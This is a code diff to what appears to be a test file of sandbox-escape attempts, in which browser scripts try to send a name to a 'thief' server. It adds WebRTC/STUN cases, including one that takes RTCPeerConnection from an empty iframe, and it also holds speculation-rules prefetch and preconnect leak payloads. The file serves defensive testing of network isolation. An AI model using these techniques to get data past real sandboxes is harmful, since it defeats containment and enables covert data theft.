@@ -7,6 +7,9 @@ const worker = (name: string, body: string, tries: string, how = 'blob', options
   code: `const text = ${body}; const worker = new Worker(${how === 'blob' ? "blob(text, 'text/javascript')" : "'data:text/javascript,' + encodeURIComponent(text)"}${options}); await new Promise((done) => { worker.onmessage = done; worker.onerror = done; setTimeout(done, 300) })`,
 })
 
+const peer = (stun: string) =>
+  `const peer = new RTCPeerConnection({ iceServers: [{ urls: ${stun} }] }); peer.createDataChannel('x'); await peer.setLocalDescription(await peer.createOffer()); await pause(300); peer.close()`
+
 /** Attacks that carry something off over the network, which is not allowed: each asks the thief's server for its name. */
 export const carrying: readonly Attack[] = [
   {
@@ -182,7 +185,7 @@ export const carrying: readonly Attack[] = [
   {
     name: 'speculation',
     tries: 'has a page fetched ahead by a rule',
-    shown: true,
+    shown: 'the browser of the stories is started without background networking, and does not',
     code: `document.head.append(Object.assign(document.createElement('script'), { type: 'speculationrules', textContent: JSON.stringify({ prefetch: [{ source: 'list', urls: [thief + '/' + name], eagerness: 'immediate' }] }) }))`,
   },
   {
@@ -273,8 +276,8 @@ export const carrying: readonly Attack[] = [
   {
     name: 'webrtc',
     tries: 'asks a STUN server by WebRTC',
-    shown: 'the runner itself takes it away; it was seen to succeed before it did',
-    code: `const peer = new RTCPeerConnection({ iceServers: [{ urls: stun }] }); peer.createDataChannel('x'); await peer.setLocalDescription(await peer.createOffer()); await pause(300); peer.close()`,
+    shown: true,
+    code: peer('stun'),
   },
   {
     name: 'webrtc-frame',
@@ -284,9 +287,15 @@ export const carrying: readonly Attack[] = [
     code: `const frame = document.createElement('iframe'); frame.srcdoc = '<script>const peer = new RTCPeerConnection({ iceServers: [{ urls: "' + stunFrame + '" }] }); peer.createDataChannel("x"); peer.createOffer().then((offer) => peer.setLocalDescription(offer))<' + '/script>'; document.body.append(frame); await pause(400); frame.remove()`,
   },
   {
+    name: 'webrtc-empty',
+    tries: 'takes WebRTC from an empty frame, at once',
+    shown: true,
+    code: `const frame = document.createElement('iframe'); document.body.append(frame); const { RTCPeerConnection } = frame.contentWindow; ${peer('stunEmpty')}; frame.remove()`,
+  },
+  {
     name: 'preconnect',
     tries: 'connects ahead',
-    shown: true,
+    shown: 'the browser of the stories is started without background networking, and does not',
     code: `add('<link rel="preconnect" href="' + ahead + '">'); await pause(200)`,
   },
 ]
